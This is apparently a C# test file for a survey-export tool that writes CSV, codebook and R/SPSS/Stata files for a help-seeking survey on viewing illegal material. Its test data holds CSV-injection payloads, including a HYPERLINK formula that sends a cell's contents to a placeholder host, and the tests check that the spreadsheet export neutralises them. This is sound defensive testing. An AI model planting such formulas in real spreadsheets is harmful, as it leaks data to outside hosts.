using System.Globalization;
using Waymark.Surveys.Export;
using Waymark.Surveys.Responses;
using Waymark.Surveys.XlsForm;
using Waymark.Testing;

namespace Waymark.Surveys.Tests;

public sealed class ExportTests : IDisposable
{
    private readonly TempFolder _temp = TempFolder.Create("ExportTests");

    public void Dispose() => _temp.Dispose();

    private static Instrument Demo() =>
        XlsFormFile.Load(Path.Combine(TestEnvironment.RepositoryRoot, "content", "surveys", "help-us-help-you.xlsx")).Instrument!;

    /// <summary>Seeded synthetic responses: every frequency, some multi-choice help, awkward free text.</summary>
    private static List<SurveyResponse> Responses(int count, int seed)
    {
        var random = new Random(seed);
        string[] frequencies = ["daily", "weekly", "monthly", "rarely", "stopped"];
        string[] help = ["self_help", "chat", "therapy", "peer", "other"];
        string[] texts = ["zorblat, \"quenmix\"", "line one\nline two", "نص عربي", "it's fine"];
        var responses = new List<SurveyResponse>();
        for (var i = 0; i < count; i++)
        {
            var answers = new Dictionary<string, string>(StringComparer.Ordinal)
            {
                ["age"] = random.Next(18, 70).ToString(CultureInfo.InvariantCulture),
                ["frequency"] = frequencies[random.Next(frequencies.Length)],
            };
            if (random.Next(4) > 0)
            {
                answers["help_wanted"] = string.Join(' ', help.Where(_ => random.Next(2) == 0));
                if (answers["help_wanted"].Length == 0)
                {
                    answers.Remove("help_wanted");
                }
            }

            if (random.Next(3) == 0)
            {
                answers["comments"] = texts[random.Next(texts.Length)];
            }

            var flags = random.Next(5) == 0 ? new[] { "speeding" } : [];
            responses.Add(new SurveyResponse($"r{i:D4}", new DateOnly(2026, 11, 1 + random.Next(27)), answers, flags));
        }

        return responses;
    }

    [Fact]
    public void Csv_has_one_row_per_response_and_a_dummy_per_choice()
    {
        var responses = Responses(3, seed: 7);
        responses.Add(new SurveyResponse("flagged", null, new Dictionary<string, string> { ["help_wanted"] = "chat other" }, ["speeding"]));
        var files = SurveyExport.Create(Demo(), responses).Files;
        Assert.Equal(
            ["help-us-help-you.csv", "help-us-help-you_spreadsheet.csv", "help-us-help-you_codebook.csv", "help-us-help-you.R", "help-us-help-you.sps", "help-us-help-you.do"],
            files.Keys);
        var header = files["help-us-help-you.csv"].Split('\n')[0].Split(',');
        Assert.Equal("response_id", header[0]);
        Assert.Contains("help_wanted", header);
        Assert.Contains("help_wanted_self_help", header);
        Assert.Contains("help_wanted_other", header);
        Assert.Contains("help_wanted_other_2", header); // the dummy for choice "other" and the text question NAME_other
        Assert.Contains("flag_speeding", header);
        Assert.DoesNotContain("intro", header);
        var flagged = files["help-us-help-you.csv"].Split('\n')[4].Split(',');
        Assert.Equal("1", flagged[Array.IndexOf(header, "help_wanted_chat")]);
        Assert.Equal("0", flagged[Array.IndexOf(header, "help_wanted_peer")]);
        Assert.Equal("1", flagged[Array.IndexOf(header, "help_wanted_other")]);
        Assert.Equal("1", flagged[Array.IndexOf(header, "flag_speeding")]);
        Assert.Equal(string.Empty, flagged[Array.IndexOf(header, "response_date")]);
        var codebook = files["help-us-help-you_codebook.csv"];
        Assert.Contains("frequency,frequency,How often have you viewed this material in the past 12 months?,select_one frequency,\"daily=Daily or almost daily (code 1); weekly=", codebook, StringComparison.Ordinal);
        Assert.Contains("help_wanted_chat,help_wanted,What kind of help would you like?: Anonymous chat or phone line,0/1,\"0=not chosen; 1=chosen\"", codebook, StringComparison.Ordinal);

        // Question 26 of the published survey keeps its scale order, so the codes reproduce its table.
        Assert.Contains("contact_users,contact_users,Have you been in contact with other CSAM/illegal violent material users?,select_one contact_frequency,\"often=Often (code 1); sometimes=Sometimes (code 2); never=Never (code 3); not_want=I do not want to be in contact (code 4)\"", codebook, StringComparison.Ordinal);
    }

    /// <summary>Answers a spreadsheet would run as formulas (CSV injection), and look-alikes that are plain values, with what the spreadsheet file holds.</summary>
    private static readonly (string Raw, string Sheet)[] FormulaAnswers =
    [
        ("=HYPERLINK(\"http://zorblat.invalid/?q=\"&A1,\"quenmix\")", "'=HYPERLINK(\"http://zorblat.invalid/?q=\"&A1,\"quenmix\")"),
        ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"), ("=1;=2", "'=1;=2"),
        ("-5", "-5"), ("+7", "+7"), ("3.5", "3.5"), ("a=b", "a=b"),
    ];

    [Fact]
    public void The_spreadsheet_csv_neutralises_formulas_and_R_reads_the_raw_values()
    {
        var responses = FormulaAnswers.Select((answer, i) => new SurveyResponse(
            $"f{i}", null, new Dictionary<string, string> { ["age"] = "-3", ["frequency"] = "daily", ["comments"] = answer.Raw }, [])).ToList();
        var files = SurveyExport.Create(Demo(), responses).Files;

        var raw = ReadCsv(files["help-us-help-you.csv"]);
        var sheet = ReadCsv(files["help-us-help-you_spreadsheet.csv"].TrimStart('\uFEFF'));
        Assert.Equal(raw[0], sheet[0]);
        var comments = Array.IndexOf(raw[0], "comments");
        var age = Array.IndexOf(raw[0], "age");
        for (var i = 0; i < FormulaAnswers.Length; i++)
        {
            Assert.Equal(FormulaAnswers[i].Raw, raw[i + 1][comments]);
            Assert.Equal(FormulaAnswers[i].Sheet, sheet[i + 1][comments]);
            Assert.Equal("-3", sheet[i + 1][age]); // a negative number stays a number
        }

        // No cell of the spreadsheet file starts a formula; a semicolon (a separator in some locales) is always quoted.
        Assert.All(sheet.SelectMany(row => row), cell => Assert.False(cell.Length > 0 && "=@\t\r".Contains(cell[0], StringComparison.Ordinal), cell));
        Assert.Contains("\"'=1;=2\"", files["help-us-help-you_spreadsheet.csv"], StringComparison.Ordinal);

        // The codebook says so for the free-text columns, and R, SPSS and Stata read the raw file.
        var codebook = ReadCsv(files["help-us-help-you_codebook.csv"]);
        var note = Array.IndexOf(codebook[0], "in_spreadsheet_csv");
        Assert.StartsWith("a value starting with = + - @", codebook.Single(r => r[0] == "comments")[note], StringComparison.Ordinal);
        Assert.Equal("as in help-us-help-you.csv", codebook.Single(r => r[0] == "age")[note]);
        foreach (var syntax in new[] { "help-us-help-you.R", "help-us-help-you.sps", "help-us-help-you.do" })
        {
            Assert.Contains("help-us-help-you.csv", files[syntax], StringComparison.Ordinal);
            Assert.DoesNotContain("_spreadsheet", files[syntax], StringComparison.Ordinal);
        }

        Assert.True(File.Exists("/usr/bin/Rscript"), "R is missing: ./test.sh installs r-base-core");
        var directory = _temp.NewFolder("survey-export-formulas");
        SurveyExport.WriteTo(SurveyExport.Create(Demo(), responses), directory);
        File.WriteAllText(Path.Combine(directory, "check.R"), """
            source("help-us-help-you.R")
            cat(d$comments, sep = "\n")
            """);
        Assert.Equal(FormulaAnswers.Select(a => a.Raw), RunR(directory).TrimEnd('\n').Split('\n'));
    }

    [Fact]
    public void Labels_follow_the_requested_language()
    {
        var files = SurveyExport.Create(Demo(), Responses(1, seed: 1), "ar").Files;
        Assert.Contains("\"يوميًا أو شبه يومي\"", files["help-us-help-you.R"], StringComparison.Ordinal);
        Assert.Contains("'يوميًا أو شبه يومي'", files["help-us-help-you.sps"], StringComparison.Ordinal);
    }

    [Fact]
    public void Variable_names_are_valid_everywhere_and_unique()
    {
        var build = Instrument.Create(
            new InstrumentSettings { FormId = "names" },
            [],
            [
                new Question { Name = "to", Type = QuestionType.Text },
                new Question { Name = "a-b", Type = QuestionType.Text },
                new Question { Name = "a_b", Type = QuestionType.Text },
                new Question { Name = "_x", Type = QuestionType.Text },
                new Question { Name = new string('q', 40), Type = QuestionType.Text },
            ]);
        var header = SurveyExport.Create(build.Instrument!, []).Files["names.csv"].TrimEnd('\n').Split(',');
        Assert.Equal(["response_id", "response_date", "form_version", "language", "duration_s", "to_v", "a_b", "a_b_2", "v_x", new string('q', 32), "flags"], header);
    }

    [Fact]
    public void R_reads_the_export_with_labelled_factors_and_the_right_counts()
    {
        Assert.True(File.Exists("/usr/bin/Rscript"), "R is missing: ./test.sh installs r-base-core");
        var responses = Responses(200, seed: 42);
        var directory = _temp.NewFolder("survey-export");
        SurveyExport.WriteTo(SurveyExport.Create(Demo(), responses), directory);
        File.WriteAllText(Path.Combine(directory, "check.R"), """
            source("help-us-help-you.R")
            out <- function(...) cat(paste(..., sep = "\t"), "\n", sep = "")
            out("rows", nrow(d))
            out("levels", paste(levels(d$frequency), collapse = "|"))
            t <- table(d$frequency)
            for (n in names(t)) out("count", n, t[[n]])
            out("age_class", class(d$age))
            out("age_sum", sum(d$age))
            out("age_label", attr(d$age, "label"))
            out("self_help", sum(d$help_wanted_self_help, na.rm = TRUE))
            out("help_na", sum(is.na(d$help_wanted_self_help)))
            out("speeding", sum(d$flag_speeding))
            out("date_class", class(d$response_date))
            out("comments", sum(!is.na(d$comments)))
            out("multiline", sum(d$comments == "line one line two", na.rm = TRUE))
            out("arabic", sum(d$comments == "نص عربي", na.rm = TRUE))
            """);
        var lines = RunR(directory).Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.Split('\t')).ToList();
        string Get(string key) => lines.Single(l => l[0] == key)[1];

        Assert.Equal(responses.Count.ToString(CultureInfo.InvariantCulture), Get("rows"));
        Assert.Equal("Daily or almost daily|Once or several times a week|Once or several times a month|Less than once a month|I no longer view it", Get("levels"));
        var labelOf = Demo().Find("frequency")!.Choices.ToDictionary(c => c.Labels.For("en")!, c => c.Name);
        foreach (var line in lines.Where(l => l[0] == "count"))
        {
            var expected = responses.Count(r => r.Answers["frequency"] == labelOf[line[1]]);
            Assert.Equal(expected.ToString(CultureInfo.InvariantCulture), line[2]);
        }

        Assert.Equal("integer", Get("age_class"));
        Assert.Equal(responses.Sum(r => int.Parse(r.Answers["age"], CultureInfo.InvariantCulture)).ToString(CultureInfo.InvariantCulture), Get("age_sum"));
        Assert.Equal("How old are you?", Get("age_label"));
        Assert.Equal(responses.Count(r => r.Answers.GetValueOrDefault("help_wanted")?.Split(' ').Contains("self_help") == true).ToString(CultureInfo.InvariantCulture), Get("self_help"));
        Assert.Equal(responses.Count(r => !r.Answers.ContainsKey("help_wanted")).ToString(CultureInfo.InvariantCulture), Get("help_na"));
        Assert.Equal(responses.Count(r => r.Flags.Contains("speeding")).ToString(CultureInfo.InvariantCulture), Get("speeding"));
        Assert.Equal("Date", Get("date_class"));
        Assert.Equal(responses.Count(r => r.Answers.ContainsKey("comments")).ToString(CultureInfo.InvariantCulture), Get("comments"));
        Assert.Equal(responses.Count(r => r.Answers.GetValueOrDefault("comments") == "line one\nline two").ToString(CultureInfo.InvariantCulture), Get("multiline"));
        Assert.Equal(responses.Count(r => r.Answers.GetValueOrDefault("comments") == "نص عربي").ToString(CultureInfo.InvariantCulture), Get("arabic"));
    }

    [Fact]
    public void Download_all_zips_every_file_of_the_export_byte_for_byte_and_r_reads_the_data_from_the_unzipped_folder()
    {
        var responses = Responses(40, seed: 11);
        var export = SurveyExport.Create(Demo(), responses);
        var directory = _temp.NewFolder("survey-zip");
        var zip = Path.Combine(directory, "all.zip");
        File.WriteAllBytes(zip, export.Zip(new DateTimeOffset(2026, 12, 7, 10, 30, 0, TimeSpan.Zero)));

        // Python's zipfile (not .NET's reader) unpacks it: every file, nothing else, the same bytes.
        var unpacked = Path.Combine(directory, "unpacked");
        ExternalProgram.Run("/usr/bin/python3", ["-m", "zipfile", "-e", zip, unpacked], directory).AssertSuccess();
        var names = export.Files.Keys.Concat(export.BinaryFiles.Keys).Order(StringComparer.Ordinal).ToList();
        Assert.Equal(names, Directory.GetFiles(unpacked).Select(f => Path.GetFileName(f)).Order(StringComparer.Ordinal).ToList());
        foreach (var name in names)
        {
            Assert.Equal(export.Bytes(name), File.ReadAllBytes(Path.Combine(unpacked, name)));
        }

        var listing = ExternalProgram.Run("/usr/bin/python3", ["-c", "import zipfile,sys; print(zipfile.ZipFile(sys.argv[1]).infolist()[0].date_time)", zip], directory).AssertSuccess().Output;
        Assert.Equal("(2026, 12, 7, 10, 30, 0)", listing.Trim());

        // The R script runs as it is in the unzipped folder.
        var r = ExternalProgram.Run("/usr/bin/Rscript", ["--vanilla", "-e", "source('help-us-help-you.R'); cat(nrow(d))"], unpacked).AssertSuccess().Output;
        Assert.EndsWith(responses.Count.ToString(CultureInfo.InvariantCulture), r.Trim(), StringComparison.Ordinal);
    }

    private static string RunR(string directory) => ExternalProgram.Run("/usr/bin/Rscript", ["--vanilla", "check.R"], directory).AssertSuccess().Combined;

    [Fact]
    public void Pspp_runs_the_spss_syntax_with_value_and_variable_labels()
    {
        Assert.True(File.Exists("/usr/bin/pspp"), "PSPP is missing: ./test.sh installs pspp");
        var responses = Responses(120, seed: 5);
        var directory = _temp.NewFolder("survey-spss");
        SurveyExport.WriteTo(SurveyExport.Create(Demo(), responses), directory);
        var syntax = Path.Combine(directory, "help-us-help-you.sps");
        File.AppendAllText(syntax, "DISPLAY LABELS.\nSAVE TRANSLATE /OUTFILE='labelled.csv' /TYPE=CSV /REPLACE /FIELDNAMES /CELLS=LABELS.\n");
        var output = ExternalProgram.Run("/usr/bin/pspp", ["-O", "format=txt", "help-us-help-you.sps"], directory).AssertSuccess().Combined;
        Assert.DoesNotContain("error", output, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("warning", output, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("How old are you?", output, StringComparison.Ordinal);

        var rows = ReadCsv(File.ReadAllText(Path.Combine(directory, "labelled.csv")));
        var header = rows[0];
        Assert.Equal(SurveyExport.Create(Demo(), responses).Files["help-us-help-you.csv"].Split('\n')[0].Split(','), header);
        Assert.Equal(responses.Count, rows.Count - 1);
        var frequency = Array.IndexOf(header, "frequency");
        var age = Array.IndexOf(header, "age");
        var comments = Array.IndexOf(header, "comments");
        var labelOf = Demo().Find("frequency")!.Choices.ToDictionary(c => c.Name, c => c.Labels.For("en")!);
        for (var i = 0; i < responses.Count; i++)
        {
            Assert.Equal(labelOf[responses[i].Answers["frequency"]], rows[i + 1][frequency]);
            Assert.Equal(responses[i].Answers["age"], rows[i + 1][age].Trim());
            Assert.Equal((responses[i].Answers.GetValueOrDefault("comments") ?? string.Empty).Replace('\n', ' '), rows[i + 1][comments].Trim());
        }
    }

    /// <summary>Minimal RFC 4180 reader for checking what PSPP wrote.</summary>
    private static List<string[]> ReadCsv(string text)
    {
        var rows = new List<string[]>();
        var fields = new List<string>();
        var field = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                fields.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\n')
            {
                fields.Add(field.ToString().TrimEnd('\r'));
                field.Clear();
                rows.Add([.. fields]);
                fields.Clear();
            }
            else
            {
                field.Append(c);
            }
        }

        return rows;
    }

    [Fact]
    public void Response_lines_round_trip_and_bad_lines_name_their_number()
    {
        var response = new SurveyResponse("abc", new DateOnly(2026, 11, 27), new Dictionary<string, string> { ["q"] = "a \"b\"" }, ["speeding"]);
        var line = ResponseLines.Write(response);
        var (read, error) = ResponseLines.Read(new StringReader(line + "\n\n" + ResponseLines.Write(response with { Date = null })));
        Assert.Null(error);
        Assert.Equal(2, read.Count);
        Assert.Equal("a \"b\"", read[0].Answers["q"]);
        Assert.Equal(new DateOnly(2026, 11, 27), read[0].Date);
        Assert.Null(read[1].Date);
        var (_, bad) = ResponseLines.Read(new StringReader(line + "\n{\"id\":\"x\"}\n"));
        Assert.StartsWith("line 2: not a response record", bad, StringComparison.Ordinal);
    }
}
